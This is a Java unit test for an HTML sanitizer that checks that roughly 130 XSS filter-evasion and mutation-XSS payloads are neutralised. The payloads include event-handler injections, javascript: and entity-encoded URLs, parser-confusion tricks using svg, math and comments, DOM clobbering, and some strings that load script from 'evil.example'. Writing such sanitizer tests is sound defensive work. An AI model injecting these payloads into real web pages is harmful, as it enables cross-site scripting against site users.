package dc.node.gateway.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Attacks of the kinds that OWASP's filter evasion cheat sheet and the published mutation attacks describe. */
class HtmlAttacksTest {
    static final String[] ATTACKS = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script/src=//evil.example>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script",
        "<script>alert(1)",
        "</script><script>alert(1)</script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img/src='x'/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=`x`onerror=alert(1)>",
        "<img src=\"https://a.b/x\"onerror=\"alert(1)\">",
        "<img src=https://a.b/x\u000bonerror=alert(1)>",
        "<img src='https://a.b/x' \u0000onerror=alert(1)>",
        "<img alt=\"x\" alt='\"><script>alert(1)</script>'>",
        "<img src=javascript:alert(1)>",
        "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
        "<a href=&#0000106&#0000097vascript:alert(1)>x</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
        "<a href=\"javascript&Tab;:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"https:evil\">x</a>",
        "<a href=\"http:///evil\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"https://a.b\" href=\"javascript:alert(1)\">x</a>",
        "<a href=\"javascript:alert(1)\" href=\"https://a.b\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<a href=\"https://a.b\" ping=\"https://evil.example\">x</a>",
        "<a href='https://a.b' onclick\n=\n'alert(1)'>x</a>",
        "<p onmouseover=alert(1)>x</p>",
        "<p ONCLICK=alert(1)>x</p>",
        "<p/onclick=alert(1)>x</p>",
        "<p a=\">\" onclick=alert(1)>x</p>",
        "<p class=\"x\"onclick=alert(1)>x</p>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<body onload=alert(1)>x</body>",
        "<p>x</p><body onload=alert(1)>",
        "<html onclick=alert(1)>x</html>",
        "<head><base href=\"javascript:alert(1)//\"></head>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<td onclick=alert(1)>outside of a table</td>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)></table>",
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<form><input type=checkbox name=action formaction=javascript:alert(1)></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<input type=\"checkbox\" type=\"image\" onfocus=alert(1) autofocus>",
        "<isindex action=javascript:alert(1) type=image>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<textarea><script>alert(1)</script></textarea>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<select><iframe></select><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<svg onload=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>--!>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<?php echo '<script>alert(1)</script>' ?>",
        "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
        "</ <script>alert(1)</script>>",
        "<%<script>alert(1)</script>%>",
        "<p title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<x onclick=alert(1)>x</x>",
        "<custom-element is=script onclick=alert(1)>x</custom-element>",
        "<mention-component onclick=alert(1) redirect_uri=javascript:alert(1) id=x></mention-component>",
        "<image-component src=javascript:alert(1) onerror=alert(1)></image-component>",
        "<img name=getElementById><form id=test><input name=parentNode></form>",
        "<a id=defaultView name=x>clobber</a>",
        "<p data-hx-get=\"https://evil.example\" data-bind=\"click: run\" x-data=\"{}\" @click=\"run\">x</p>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<portal src=javascript:alert(1)></portal>",
        "<a href=\"https://a.b\" target=\"_blank\" rel=\"opener\">x</a>",
        "<b <script>alert(1)</script>0",
        "<div id=1<script>alert(1)</script>",
        "<p class=\"<!--\">x</p><img alt=\"--><script>alert(1)</script>\">",
        "<a title=\"<a title='\"><img src=x onerror=alert(1)>'>\">x</a>",
        "<\u017fcript>alert(1)</\u017fcript>",
        "<\u212a onclick=alert(1)>",
        "<mar\u212a onclick=alert(1)>x</mar\u212a>",
    };

    private final HtmlCleaner cleaner = new HtmlCleaner();

    static Stream<String> attacks() {
        return Stream.of(ATTACKS);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void noAttackSurvives(String attack) {
        for (String html :
                new String[] {attack, "<p>" + attack + "</p>", "<table>" + attack, "<b>a</b>" + attack + "<i>b</i>"}) {
            Cleaned cleaned = cleaner.clean(html);

            HtmlSafety.assertSafe(cleaned.html());
            HtmlSafety.assertSafe("<div>" + cleaned.html() + "</div>");
            assertThat(PlainMarkup.isPlain(cleaned.html())).isTrue();
            assertThat(cleaner.clean(cleaned.html())).isEqualTo(new Cleaned(cleaned.html(), List.of()));
        }
    }
}
